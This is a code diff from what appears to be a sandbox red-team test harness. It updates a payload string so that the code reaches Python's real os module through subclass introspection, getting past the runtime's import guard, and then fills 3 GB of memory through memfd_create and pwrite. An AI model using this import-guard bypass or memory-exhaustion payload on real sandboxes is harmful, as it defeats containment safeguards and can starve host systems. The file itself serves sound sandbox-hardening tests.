@@ -83,14 +83,16 @@ def sandbox_call(sandbox: Sandbox, code: str) -> str:
     return f"{result.error.type}: {result.error.message[:60]}"
 
 
+# The red team's way to the real os module past the runtime's import guard (Gate 1 off).
 MEMFD = """
-import os
+subclasses = ().__class__.__base__.__subclasses__()
+wrap_close = [c for c in subclasses if c.__name__ == '_wrap_close'][0]
+os = wrap_close.__init__.__globals__['sys'].modules['os']
 try:
     fd = os.memfd_create('hoard')
     os.ftruncate(fd, 3 << 30)
-    m = __import__('mmap').mmap(fd, 3 << 30)
-    for i in range(0, 3 << 30, 4096):
-        m[i] = 1
+    for offset in range(0, 3 << 30, 1 << 20):
+        os.pwrite(fd, b'x' * (1 << 20), offset)
     return 'held 3 GB'
 except OSError as exc:
     return f'refused: {exc}'
